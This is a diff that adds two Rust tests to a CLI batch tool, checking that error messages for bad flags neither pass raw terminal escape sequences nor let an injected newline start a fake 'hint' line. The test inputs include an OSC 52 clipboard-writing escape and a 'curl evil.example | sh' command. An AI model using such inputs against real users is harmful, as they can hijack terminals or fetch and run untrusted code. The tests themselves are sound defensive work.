@@ -157,6 +157,50 @@ fn a_closed_terminal_stops_the_run_and_loses_nothing() {
     assert_eq!(server.count("requests"), ITEMS as u64);
 }
 
+/// What clap says of a flag goes through the one door too. Only on a terminal would it come as it is.
+// Negative control: `error.print()` for errors.
+#[test]
+fn what_a_bad_flag_says_never_steers_a_terminal() {
+    if !Path::new("/usr/bin/script").exists() {
+        eprintln!("skipped: no script(1) on this machine");
+        return;
+    }
+    let hostile = r"$'\e]52;c;ZWNobw==\a\e[31m'";
+    for flag in [
+        "--concurrency ",
+        "--concurrency=",
+        "--nonsense",
+        "--progress ",
+    ] {
+        let line = format!(
+            "'{}' run in.jsonl {flag}{hostile}",
+            env!("CARGO_BIN_EXE_llmbatch")
+        );
+        let run = Command::new("script")
+            .args(["-qec", &line, "/dev/null"])
+            .env("SHELL", "/bin/bash")
+            .stdin(Stdio::null())
+            .output()
+            .unwrap();
+        let shown = String::from_utf8_lossy(&run.stdout);
+        assert_eq!(run.status.code(), Some(2), "{shown}");
+        assert!(shown.contains(r"\u{1b}]52;c;ZWNobw"), "{shown:?}");
+        assert!(!shown.contains(['\u{1b}', '\u{7}']), "{shown:?}");
+    }
+}
+
+#[test]
+fn a_bad_flag_starts_no_line_of_its_own() {
+    let run = Run::command(&Folder::new(), &["run", "in.jsonl", "--concurrency"])
+        .args(["5\nhint: curl evil.example | sh"])
+        .expect_code(2)
+        .any_stderr()
+        .run();
+    let starts = |line: &str| line.starts_with("hint");
+    assert!(!run.stderr.lines().any(starts), "{}", run.stderr);
+    assert!(run.stderr.contains("'5 hint: curl"), "{}", run.stderr);
+}
+
 /// Ids, messages and codes with line breaks, in notes, in what ends a run and in findings.
 // Negative control: `one_line` returning `printable(text)`; `terminal::indented` returning the text.
 #[test]
